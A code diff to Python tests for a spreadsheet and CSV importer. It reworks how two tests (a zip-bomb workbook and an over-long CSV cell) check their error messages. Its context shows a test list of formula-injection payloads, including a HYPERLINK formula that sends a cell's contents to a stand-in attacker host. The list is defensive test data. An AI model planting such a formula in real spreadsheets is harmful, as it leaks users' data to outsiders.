@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 import zipfile
 from pathlib import Path
 
@@ -12,6 +13,7 @@ from api.worklogs import csv_file
 from cases.report import to_xlsx
 from db.cells import FORMULA_START, csv_value, xlsx_row
 from registers.tabular import FileProblem, read_table, write_table
+from tests.words import english
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
@@ -98,13 +100,15 @@ def test_a_zip_bomb_workbook_is_refused_from_its_directory_alone(tmp_path: Path)
         for _ in range(400):
             f.write(chunk)
     assert path.stat().st_size < 2**20
-    with pytest.raises(FileProblem, match="unpacks to 400 MB"):
+    with pytest.raises(FileProblem) as refused:
         read_table(path)
+    assert re.search("unpacks to 400 MB", english(refused.value))
 
 
 def test_a_csv_cell_over_the_limit_names_its_line(tmp_path: Path) -> None:
     path = tmp_path / "people.csv"
     path.write_text("name,note\n李四,x\n王五," + "x" * (csv.field_size_limit() + 1) + "\n", encoding="utf-8")
     header, rows = read_table(path)
-    with pytest.raises(FileProblem, match="line 3"):
+    with pytest.raises(FileProblem) as refused:
         list(rows)
+    assert re.search("line 3", english(refused.value))
